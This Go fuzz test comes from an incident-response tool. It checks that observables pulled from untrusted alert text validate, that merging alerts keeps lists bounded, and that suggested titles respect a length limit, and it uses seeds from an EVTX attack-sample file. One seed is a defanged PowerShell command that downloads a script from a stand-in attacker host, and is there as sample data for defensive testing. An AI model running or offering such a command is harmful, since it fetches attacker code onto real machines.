// SPDX-License-Identifier: Apache-2.0

package incident

import (
	"context"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/koban-csirt/koban/internal/intake/file"
	"github.com/koban-csirt/koban/internal/normalize"
	"github.com/koban-csirt/koban/internal/shareddata"
)

// FuzzAlertObservables feeds alerts of untrusted text (host, user, one key
// field, a technique) to what CreateFromAlerts and AddAlerts do with them
// before the store: every observable kept validates and names its alert,
// and merging keeps the incident's lists valid and bounded.
func FuzzAlertObservables(f *testing.F) {
	c := &obsSink{n: normalize.New()}
	rel := "evtx-attack-samples/Execution/exec_wmic_xsl_internet_sysmon_3_1_11.evtx"
	if _, err := file.Import(context.Background(), shareddata.Path(f, rel), c, file.Options{}); err != nil {
		f.Fatalf("import %s: %v", rel, err)
	}
	for i := range c.events {
		for _, fl := range c.events[i].Fields {
			f.Add("WIN-HOST01", `CORP\taro`, fl.Name(), fl.Value, "T1059.001")
		}
	}
	f.Add("192.0.2.7", "", "CommandLine", "powershell -c iwr hxxp://evil[.]example/a.ps1", "t1486")
	f.Add("bad host\x00", "user@", "Hashes", "SHA256=zz,MD5=00", "T99")
	f.Fuzz(func(t *testing.T, host, user, name, value, technique string) {
		al := AlertInput{ID: 7, Title: name, Level: "high", Host: host, User: user,
			Fields: []AlertField{{Name: name, Value: value}}, Techniques: []string{technique},
			FirstSeen: time.Unix(1_800_000_000, 0)}
		for _, o := range observablesOf(al) {
			cl, err := cleanObservables([]Observable{o})
			if err != nil {
				continue // dropped, as takeAlerts does
			}
			if err := cl[0].Validate(); err != nil || cl[0].Source != AlertSource(7) {
				t.Errorf("observable %s %q of alert 7: source %q, Validate %v", cl[0].Kind, cl[0].Value, cl[0].Source, err)
			}
		}
		var inc Incident
		mergeAlerts(&inc, []AlertInput{al, al})
		for _, id := range inc.Techniques {
			if !validTechnique(id) {
				t.Errorf("mergeAlerts kept technique %q", id)
			}
		}
		if len(inc.AffectedAssets) > 1 || len(inc.AffectedUsers) > 1 || len(inc.Techniques) > 1 {
			t.Errorf("mergeAlerts of one alert twice: assets %q users %q techniques %q", inc.AffectedAssets,
				inc.AffectedUsers, inc.Techniques)
		}
		if !inc.DetectedAt.Equal(al.FirstSeen) {
			t.Errorf("mergeAlerts: detected at %v, want %v", inc.DetectedAt, al.FirstSeen)
		}
		if title := SuggestTitle([]AlertInput{al, al}); utf8.RuneCountInString(title) > maxTitleLen {
			t.Errorf("SuggestTitle: %d characters, more than %d", utf8.RuneCountInString(title), maxTitleLen)
		}
	})
}
